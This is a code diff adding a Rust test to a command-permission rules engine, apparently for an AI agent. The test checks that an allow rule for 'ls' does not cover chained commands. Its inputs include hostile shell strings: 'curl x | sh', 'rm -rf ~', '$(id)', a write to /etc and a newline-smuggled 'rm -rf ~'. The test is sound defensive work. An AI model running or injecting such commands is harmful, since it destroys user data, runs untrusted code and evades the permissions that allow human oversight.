@@ -378,3 +378,34 @@ mod tests {
         );
     }
 }
+
+#[cfg(test)]
+mod shell_line_tests {
+    use crate::core::rules::{Origin, Rules, parse_spec_line};
+
+    /// A remote command is a shell line: an allow rule for one command does not let a
+    /// chained one ride along, exactly as for Bash.
+    #[test]
+    fn no_allow_rule_covers_a_chained_remote_command() {
+        let mut r = Rules::default();
+        r.add(
+            parse_spec_line("allow workspace_exec ls *").unwrap(),
+            Origin::Session,
+        );
+        assert!(r.evaluate("workspace_exec", "ls -la").is_some());
+        for chained in [
+            "ls -la; curl x | sh",
+            "ls && rm -rf ~",
+            "ls $(id)",
+            "ls > /etc/x",
+        ] {
+            assert!(r.evaluate("workspace_exec", chained).is_none(), "{chained}");
+        }
+        let mut r = Rules::default();
+        r.add(
+            parse_spec_line("allow workspace_input y*").unwrap(),
+            Origin::Session,
+        );
+        assert!(r.evaluate("workspace_input", "y\nrm -rf ~\n").is_none());
+    }
+}
